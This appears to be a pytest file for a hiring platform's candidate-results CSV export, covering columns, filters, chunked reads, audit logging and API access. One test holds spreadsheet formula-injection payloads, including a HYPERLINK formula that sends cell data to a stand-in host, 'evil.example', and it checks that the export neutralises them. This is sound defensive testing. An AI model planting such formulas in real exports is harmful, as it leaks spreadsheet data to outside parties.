"""An opening's results as a CSV file, from the pipeline page and the API: one row per
candidate with the result an ATS would be told, no answer, no formula, the page's filters
carried, written as it is sent, and recorded (the count, never a name)."""

from __future__ import annotations

import csv
import html
import io
from datetime import UTC
from typing import Any
from urllib.parse import urlencode

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from hireproof.accounts.models import User
from hireproof.accounts.roles import Scope
from hireproof.api.tests.conftest import ApiClient, key_for
from hireproof.audit.models import LogLeaf
from hireproof.core.audit import parse_leaf
from hireproof.hiring.models.candidates import Candidate
from hireproof.hiring.models.openings import Opening
from hireproof.hiring.reads import results_export
from hireproof.hiring.tests.openings.conftest import add
from hireproof.hiring.tests.webhooks.conftest import STRONG, invited, take_test

pytestmark = pytest.mark.django_db

WEAK = {**STRONG, "cognitive-growth": "12", "pandas-filter-sum": "7"}


def results(client: Client, opening: Opening, **params: str) -> Any:
    url = reverse("openings:results", args=[opening.pk])
    return client.post(f"{url}?{urlencode(params)}" if params else url)


def read(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def exports() -> list[dict[str, Any]]:
    leaves = [parse_leaf(bytes(row.data)) for row in LogLeaf.objects.order_by("index")]
    return [
        {"actor": leaf.actor, "subject": leaf.subject, **leaf.public}
        for leaf in leaves
        if leaf.event_type == "opening.results_exported"
    ]


@pytest.fixture
def scored(opening: Opening, recruiter: User) -> Candidate:
    return take_test(invited(opening, recruiter, "Grace Hopper"))


def test_each_candidate_is_one_row_with_the_result_and_never_an_answer(
    auditor_client: Client, recruiter: User, opening: Opening, scored: Candidate
) -> None:
    waiting = add(opening, recruiter, "Ada Byron", "ada@example.org")
    response = results(auditor_client, opening)
    today = timezone.now().astimezone(UTC).strftime("%Y-%m-%d")
    assert response["Content-Disposition"] == (
        f'attachment; filename="data-scientist-berlin-results-{today}.csv"'
    )
    text = b"".join(response.streaming_content).decode()
    for answer in ("1210", "141, nobody is that old"):
        assert answer not in text
    rows = read(results(auditor_client, opening))
    version = opening.playbook_version
    sections = [f"section_{s.id}_percent" for s in version.load().assessment.sections]
    assert list(rows[0]) == [
        "candidate_id",
        "name",
        "email",
        "stage",
        "invited_at",
        "started_at",
        "submitted_at",
        "score_percent",
        "verdict",
        *sections,
        "flags",
        "recommendation",
        "decision",
        "playbook_id",
        "playbook_version",
        "playbook_hash",
    ]
    grace, ada = rows
    attempt = scored.invitation.attempt
    sent_at, submitted_at = scored.invitation.sent_at, attempt.submitted_at
    assert sent_at is not None
    assert submitted_at is not None
    assert grace == {
        "candidate_id": str(scored.pk),
        "name": "Grace Hopper",
        "email": "grace.hopper@example.org",
        "stage": "Scored",
        "invited_at": sent_at.astimezone(UTC).isoformat(timespec="seconds"),
        "started_at": attempt.started_at.astimezone(UTC).isoformat(timespec="seconds"),
        "submitted_at": submitted_at.astimezone(UTC).isoformat(timespec="seconds"),
        "score_percent": "100.00",
        "verdict": "Strong pass",
        **dict.fromkeys(sections, "100.00"),
        "flags": "0",
        "recommendation": "Advance to interviews",
        "decision": "",
        "playbook_id": version.playbook_id,
        "playbook_version": version.version,
        "playbook_hash": version.content_hash,
    }
    assert grace["submitted_at"].endswith("+00:00")
    assert (ada["candidate_id"], ada["stage"], ada["invited_at"], ada["score_percent"]) == (
        str(waiting.pk),
        "Not invited",
        "",
        "",
    )


def test_a_name_or_email_cannot_smuggle_a_formula_into_a_spreadsheet(
    auditor_client: Client, recruiter: User, opening: Opening
) -> None:
    names = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+1", "-2", "@SUM(A1)", "Plain"]
    for number, name in enumerate(names):
        add(opening, recruiter, name, f"f{number}@example.org")
    rows = read(results(auditor_client, opening))
    assert [row["name"] for row in rows] == [
        '\'=HYPERLINK("https://evil.example/?x="&A1,"Open")',
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "Plain",
    ]


def test_the_pipeline_filters_and_order_are_carried_and_a_bad_one_is_refused(
    auditor_client: Client, recruiter: User, opening: Opening, scored: Candidate
) -> None:
    weak = take_test(invited(opening, recruiter, "Bob Kahn"), WEAK)
    add(opening, recruiter, "Cy Young", "cy@example.org")
    assert [r["name"] for r in read(results(auditor_client, opening, status="scored"))] == [
        "Grace Hopper",
        "Bob Kahn",
    ]
    failed = read(results(auditor_client, opening, verdict=weak.invitation.attempt.verdict))
    assert [r["name"] for r in failed] == ["Bob Kahn"]
    by_name = read(results(auditor_client, opening, sort="-name"))
    assert [r["name"] for r in by_name] == ["Grace Hopper", "Cy Young", "Bob Kahn"]
    assert [r["name"] for r in read(results(auditor_client, opening, q="cy"))] == ["Cy Young"]

    before = LogLeaf.objects.count()
    refused = results(auditor_client, opening, status="nearly")
    assert refused.status_code == 400
    assert "status: 'nearly' is not a stage" in html.unescape(refused.content.decode())
    assert LogLeaf.objects.count() == before


def test_a_large_opening_is_read_a_chunk_at_a_time_in_the_page_order(
    auditor_client: Client, recruiter: User, opening: Opening, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(results_export, "CHUNK", 2)
    for name in ["Eve", "Bea", "Dan", "Ann", "Cat"]:
        add(opening, recruiter, name, f"{name.lower()}@example.org")
    assert [r["name"] for r in read(results(auditor_client, opening, sort="name"))] == [
        "Ann",
        "Bea",
        "Cat",
        "Dan",
        "Eve",
    ]


def test_the_export_is_recorded_with_the_count_and_the_filters_never_a_name(
    auditor: User, auditor_client: Client, recruiter: User, opening: Opening, scored: Candidate
) -> None:
    add(opening, recruiter, "Ada Byron", "ada@example.org")
    read(results(auditor_client, opening))
    read(results(auditor_client, opening, status="scored", q="Grace Hopper"))
    assert exports() == [
        {
            "actor": auditor.audit_actor,
            "subject": None,
            "opening_id": opening.pk,
            "count": 2,
            "filters": {},
            "searched": False,
            "format": "csv",
        },
        {
            "actor": auditor.audit_actor,
            "subject": None,
            "opening_id": opening.pk,
            "count": 1,
            "filters": {"status": "scored"},
            "searched": True,
            "format": "csv",
        },
    ]
    last = bytes(LogLeaf.objects.order_by("-index").first().data)  # type: ignore[union-attr]  # the export's leaf
    assert b"Grace" not in last
    assert b"Hopper" not in last


def test_the_pipeline_page_offers_the_download_with_its_filters(
    auditor_client: Client, opening: Opening, scored: Candidate
) -> None:
    page = auditor_client.get(
        reverse("openings:pipeline", args=[opening.pk]), {"status": "scored", "sort": "-score"}
    ).content.decode()
    url = reverse("openings:results", args=[opening.pk])
    assert f'method="post" action="{url}?status=scored&amp;sort=-score"' in page
    assert auditor_client.get(url).status_code == 405  # reading the address writes nothing


def test_the_api_gives_the_same_file_with_the_read_scope(
    auditor: User, auditor_client: Client, recruiter: User, opening: Opening, scored: Candidate
) -> None:
    add(opening, recruiter, "Ada Byron", "ada@example.org")
    api = ApiClient(key_for(auditor, Scope.READ))
    path = f"/openings/{opening.pk}/results.csv"
    answer = api.get(path)
    assert read(answer) == read(results(auditor_client, opening))
    assert answer["Content-Disposition"].startswith('attachment; filename="data-scientist-berlin')
    assert [r["name"] for r in read(api.get(path, stage="scored"))] == ["Grace Hopper"]
    assert [r["name"] for r in read(api.get(path, verdict="strong_pass"))] == ["Grace Hopper"]
    assert [r["name"] for r in read(api.get(path, sort="-added"))] == ["Ada Byron", "Grace Hopper"]
    before = LogLeaf.objects.count()
    for params in ({"stage": "nearly"}, {"sort": "height"}):
        refused = api.get(path, **params)
        assert refused.status_code == 422, params
        assert refused["Content-Type"] == "application/problem+json"
        assert next(iter(params)) in refused.json()["detail"]
    assert LogLeaf.objects.count() == before
    assert api.get("/openings/999999/results.csv").status_code == 404
    actor = exports()[-1]["actor"]
    assert actor.startswith("api-key:")
    assert actor.endswith("/" + auditor.audit_actor)
